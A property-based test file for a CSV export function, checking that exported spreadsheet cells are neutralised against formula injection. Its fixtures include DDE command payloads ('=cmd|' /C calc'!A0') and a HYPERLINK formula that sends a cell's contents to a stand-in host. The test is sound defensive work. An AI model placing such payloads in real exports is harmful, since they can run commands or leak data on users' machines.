import fc from 'fast-check';
import { readCsv } from '../../../../test/builders/read-csv.js';
import { csvOf } from './csv.js';

const formulaStart = /^[\s]*[=+\-@＝＋－＠]/;
const withoutApostrophes = (text: string): string => text.replaceAll("'", '');

const hostileLetters = [...'=+-@;,|"\'\t\r\n ＝＋－＠aæ1\uFEFF\u00a0'];
const hostileText = fc.oneof(
  fc.array(fc.constantFrom(...hostileLetters), { maxLength: 12 }).map((letters) => letters.join('')),
  fc.string({ unit: 'grapheme', maxLength: 20 }),
  fc.constantFrom('=1+1', '=cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1', '-2+3+cmd|\' /C calc\'!D2', '\t=1', '\r=1', '";=1', '\';=1', 'a,=1', 'a\n=1', '=HYPERLINK("http://x.example?"&A1;"x")', '＝1+1'),
);
const hostileTable = fc.integer({ min: 1, max: 4 }).chain((columns) => fc.array(fc.array(hostileText, { minLength: columns, maxLength: columns }), { maxLength: 5 }));

describe('a file for spreadsheets', () => {
  it('is read by another program as the table that it was made of, but for apostrophes', () => {
    fc.assert(fc.property(hostileTable, (table) => {
      expect(readCsv(csvOf(table)).map((row) => row.map(withoutApostrophes))).toEqual(table.map((row) => row.map(withoutApostrophes)));
    }), { numRuns: 3000 });
  });

  it('has no cell that begins a formula', () => {
    fc.assert(fc.property(hostileTable, (table) => {
      expect(readCsv(csvOf(table)).flat().filter((text) => formulaStart.test(text) || /^[\t\r\n]/.test(text))).toEqual([]);
    }), { numRuns: 3000 });
  });

  it('has none for a program either that takes other separators, or quotes and lines as they come', () => {
    fc.assert(fc.property(hostileTable, (table) => {
      const pieces = csvOf(table).slice(1).split(/[;,|\t\r\n"]/);
      expect(pieces.filter((piece) => formulaStart.test(piece))).toEqual([]);
    }), { numRuns: 3000 });
  });

  it.each(['P-7KQ2', 'NV-7KQ2-M9XD', 'Børnemodtagelsen, Køge Kommune', '2026-11-23 21:48:05', 'a = b', 'en "to" tre', '', 'linje\r\nlinje', 'æøå'])('leaves %j as it is', (text) => {
    expect(readCsv(csvOf([[text, 'x']]))).toEqual([[text, 'x']]);
  });

  it('puts an apostrophe before a formula, at the beginning and further in', () => {
    expect(csvOf([['=1+1', 'a;=1', 'b', '-']])).toBe('\uFEFF"\'=1+1";"a;\'=1";"b";"\'-"\r\n');
  });

  it('is read as nothing when it holds nothing', () => {
    expect(readCsv(csvOf([]))).toEqual([]);
  });
});

it.each([
  ['no byte order mark', '"a"\r\n'], ['a cell without a quote', '\uFEFFa\r\n'], ['neither a separator nor an end of line', '\uFEFF"a"'], ['a cell without an end', '\uFEFF"a\r\n'],
  ['a line without an end', '\uFEFF"a";'],
])('the reader of this test objects to %s', (what, file) => {
  expect(() => readCsv(file)).toThrow(what);
});
